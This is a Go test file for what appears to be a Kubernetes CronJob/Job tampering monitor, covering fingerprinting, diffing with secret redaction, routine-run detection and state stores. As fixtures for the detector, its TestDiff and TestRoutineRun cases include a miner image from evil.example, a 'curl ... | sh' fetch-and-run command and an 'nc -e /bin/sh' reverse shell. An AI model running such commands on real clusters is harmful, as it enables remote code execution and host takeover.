package watch

import (
	"context"
	"encoding/json"
	"path/filepath"
	"strings"
	"testing"
	"time"

	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes/fake"
)

func cronJob(image string, env ...corev1.EnvVar) *batchv1.CronJob {
	return &batchv1.CronJob{
		ObjectMeta: metav1.ObjectMeta{Name: "nightly", Namespace: "ops", UID: types.UID("cj-uid")},
		Spec: batchv1.CronJobSpec{Schedule: "0 3 * * *", JobTemplate: batchv1.JobTemplateSpec{Spec: batchv1.JobSpec{
			Template: corev1.PodTemplateSpec{Spec: corev1.PodSpec{RestartPolicy: corev1.RestartPolicyNever,
				Containers: []corev1.Container{{Name: "main", Image: image, Command: []string{"sh", "-c", "backup.sh"}, Env: env}}}}}}},
	}
}

func childJob(cj *batchv1.CronJob) *batchv1.Job {
	j := &batchv1.Job{ObjectMeta: metav1.ObjectMeta{Name: "nightly-29000000", Namespace: "ops", UID: "job-uid",
		OwnerReferences: []metav1.OwnerReference{*metav1.NewControllerRef(cj, batchv1.SchemeGroupVersion.WithKind("CronJob"))}},
		Spec: *cj.Spec.JobTemplate.Spec.DeepCopy()}
	// What the Job controller and API server add: selector labels.
	j.Spec.Template.Labels = map[string]string{"batch.kubernetes.io/controller-uid": "job-uid", "job-name": j.Name}
	return j
}

func TestFingerprintIgnoresNoise(t *testing.T) {
	a := cronJob("busybox:1.36")
	b := a.DeepCopy()
	b.Labels = map[string]string{"team": "x"}
	b.Annotations = map[string]string{"note": "y"}
	b.ResourceVersion = "42"
	now := metav1.Now()
	b.Status.LastScheduleTime = &now
	b.ManagedFields = []metav1.ManagedFieldsEntry{{Manager: "kubectl"}}
	b.Spec.JobTemplate.Spec.Template.Labels = map[string]string{"churn": "1"}
	if snapshotCronJob(a).fingerprint != snapshotCronJob(b).fingerprint {
		t.Fatal("labels, annotations, status, resourceVersion or template labels changed the fingerprint")
	}
	for name, mutate := range map[string]func(*batchv1.CronJob){
		"image":      func(c *batchv1.CronJob) { c.Spec.JobTemplate.Spec.Template.Spec.Containers[0].Image = "alpine" },
		"schedule":   func(c *batchv1.CronJob) { c.Spec.Schedule = "* * * * *" },
		"suspend":    func(c *batchv1.CronJob) { t := true; c.Spec.Suspend = &t },
		"history":    func(c *batchv1.CronJob) { z := int32(0); c.Spec.SuccessfulJobsHistoryLimit = &z },
		"ttl":        func(c *batchv1.CronJob) { z := int32(0); c.Spec.JobTemplate.Spec.TTLSecondsAfterFinished = &z },
		"sa":         func(c *batchv1.CronJob) { c.Spec.JobTemplate.Spec.Template.Spec.ServiceAccountName = "admin" },
		"apparmor":   func(c *batchv1.CronJob) { c.Spec.JobTemplate.Spec.Template.Annotations = map[string]string{"a": "b"} },
		"parallel":   func(c *batchv1.CronJob) { p := int32(9); c.Spec.JobTemplate.Spec.Parallelism = &p },
		"concurrent": func(c *batchv1.CronJob) { c.Spec.ConcurrencyPolicy = batchv1.ForbidConcurrent },
	} {
		c := a.DeepCopy()
		mutate(c)
		if snapshotCronJob(a).fingerprint == snapshotCronJob(c).fingerprint {
			t.Errorf("%s change did not change the fingerprint", name)
		}
	}
}

func TestDiff(t *testing.T) {
	old := cronJob("busybox:1.36", corev1.EnvVar{Name: "TOKEN", Value: "old-secret-value"})
	cur := cronJob("evil.example/miner:latest", corev1.EnvVar{Name: "TOKEN", Value: "new-secret-value"})
	cur.Spec.Schedule = "* * * * *"
	cur.Spec.JobTemplate.Spec.Template.Spec.Containers[0].Command = []string{"sh", "-c", "curl -H 'Authorization: Bearer abcdef123456' http://x | sh"}
	cur.Spec.JobTemplate.Spec.Template.Spec.Volumes = []corev1.Volume{{Name: "h", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}}
	cur.Spec.JobTemplate.Spec.Template.Annotations = map[string]string{"container.apparmor.security.beta.kubernetes.io/main": "unconfined"}
	d := Diff("CronJob", snapshotCronJob(old).json, snapshotCronJob(cur).json)
	got := map[string][2]string{}
	for _, c := range d {
		got[c.Path] = [2]string{c.Old, c.New}
	}
	want := map[string][2]string{
		"spec.schedule": {"0 3 * * *", "* * * * *"},
		"spec.jobTemplate.spec.template.spec.containers[0].image":                                                  {"busybox:1.36", "evil.example/miner:latest"},
		"spec.jobTemplate.spec.template.spec.containers[0].env[0].value":                                           {"<redacted>", "<redacted>"},
		"spec.jobTemplate.spec.template.spec.volumes[0].hostPath.path":                                             {"", "/"},
		"spec.jobTemplate.spec.template.metadata.annotations[container.apparmor.security.beta.kubernetes.io/main]": {"", "unconfined"},
	}
	for p, w := range want {
		if got[p] != w {
			t.Errorf("%s: got %q, want %q", p, got[p], w)
		}
	}
	cmd := got["spec.jobTemplate.spec.template.spec.containers[0].command[2]"]
	if cmd[1] == "" || strings.Contains(cmd[1], "abcdef123456") {
		t.Errorf("command change missing or not redacted: %q", cmd)
	}
	b, _ := json.Marshal(d)
	if strings.Contains(string(b), "secret-value") {
		t.Fatalf("env value leaked into the diff: %s", b)
	}
	if len(Diff("CronJob", snapshotCronJob(old).json, snapshotCronJob(old).json)) != 0 {
		t.Error("identical versions produced a diff")
	}
}

func TestRoutineRun(t *testing.T) {
	cj := cronJob("busybox:1.36")
	j := childJob(cj)
	if !routineRun(j, snapshotJob(j), cj) {
		t.Fatal("a Job with its CronJob's template (plus controller labels) is not a routine run")
	}
	tampered := j.DeepCopy()
	tampered.Spec.Template.Spec.Containers[0].Command = []string{"sh", "-c", "nc -e /bin/sh 1.2.3.4 4444"}
	if routineRun(tampered, snapshotJob(tampered), cj) {
		t.Error("a Job whose template differs from its owner's is routine")
	}
	manual := j.DeepCopy()
	manual.Annotations = map[string]string{"cronjob.kubernetes.io/instantiate": "manual"}
	if routineRun(manual, snapshotJob(manual), cj) {
		t.Error("a manual run is routine")
	}
	orphan := j.DeepCopy()
	orphan.OwnerReferences = nil
	if routineRun(orphan, snapshotJob(orphan), cj) {
		t.Error("a Job without an owner is routine")
	}
	other := cj.DeepCopy()
	other.UID = "someone-else"
	if routineRun(j, snapshotJob(j), other) {
		t.Error("a Job owned by a different CronJob UID (re-created name) is routine")
	}
	changedOwner := cj.DeepCopy()
	changedOwner.Spec.JobTemplate.Spec.Template.Spec.Containers[0].Image = "alpine"
	if routineRun(j, snapshotJob(j), changedOwner) {
		t.Error("a run of the CronJob's previous template counts as routine for the new one")
	}
}

func TestTransform(t *testing.T) {
	t0, t1 := metav1.NewTime(time.Unix(100, 0)), metav1.NewTime(time.Unix(200, 0))
	cj := cronJob("busybox")
	cj.Annotations = map[string]string{lastApplied: "{...}", "keep": "me"}
	cj.Status.LastScheduleTime = &t1
	cj.ManagedFields = []metav1.ManagedFieldsEntry{
		{Manager: "kubectl-client-side-apply", Operation: "Update", Time: &t0, FieldsV1: metav1.NewFieldsV1(`{"f:spec":{}}`)},
		{Manager: "helm", Operation: "Update", Time: &t1, FieldsV1: metav1.NewFieldsV1(`{"f:spec":{"f:schedule":{}}}`)},
		{Manager: "kube-controller-manager", Operation: "Update", Subresource: "status", Time: &t1, FieldsV1: metav1.NewFieldsV1(`{"f:status":{}}`)},
		{Manager: "labeler", Operation: "Update", Time: &t1, FieldsV1: metav1.NewFieldsV1(`{"f:metadata":{}}`)},
	}
	out, err := transform(cj)
	if err != nil {
		t.Fatal(err)
	}
	got := out.(*batchv1.CronJob)
	if _, ok := got.Annotations[lastApplied]; ok || got.Annotations["keep"] != "me" {
		t.Errorf("annotations = %v", got.Annotations)
	}
	if got.Status.LastScheduleTime != nil {
		t.Error("status kept")
	}
	if len(got.ManagedFields) != 1 || got.ManagedFields[0].Manager != "helm" || got.ManagedFields[0].FieldsV1 != nil {
		t.Errorf("managedFields = %+v, want only helm's spec write without its field set", got.ManagedFields)
	}
}

func TestFindingKeysAndNew(t *testing.T) {
	if !hasNew([]string{"A|x", "B|y"}, []string{"A|x"}) || hasNew([]string{"A|x"}, []string{"A|x", "B|y"}) || hasNew(nil, nil) {
		t.Fatal("hasNew wrong")
	}
}

func TestStores(t *testing.T) {
	ctx := context.Background()
	s := newState()
	s.Objects["u1"] = &Entry{Kind: "Job", Namespace: "a", Name: "b", Fingerprint: "f", Score: 70, Findings: []string{"JW-EXEC-001|p"}, Alerted: true}
	fs := &FileStore{Path: filepath.Join(t.TempDir(), "sub", "state")}
	if st, err := fs.Load(ctx); st != nil || err != nil {
		t.Fatalf("empty file store: %v %v", st, err)
	}
	cm := &ConfigMapStore{Client: fake.NewClientset(), Namespace: "jobwatch", Name: "state"}
	for _, store := range []Store{fs, cm} {
		if err := store.Save(ctx, s); err != nil {
			t.Fatalf("%s: %v", store, err)
		}
		if err := store.Save(ctx, s); err != nil { // update path
			t.Fatalf("%s: %v", store, err)
		}
		got, err := store.Load(ctx)
		if err != nil || got == nil || got.Objects["u1"] == nil || !got.Objects["u1"].Alerted || got.Objects["u1"].Score != 70 {
			t.Fatalf("%s round trip: %+v %v", store, got, err)
		}
	}
	for spec, wantErr := range map[string]bool{"/tmp/x": false, "configmap://ns/name": false, "configmap://ns": true, "s3://bucket/x": true, "": true} {
		_, err := ParseStore(spec, fake.NewClientset())
		if (err != nil) != wantErr {
			t.Errorf("ParseStore(%q) err = %v", spec, err)
		}
	}
}
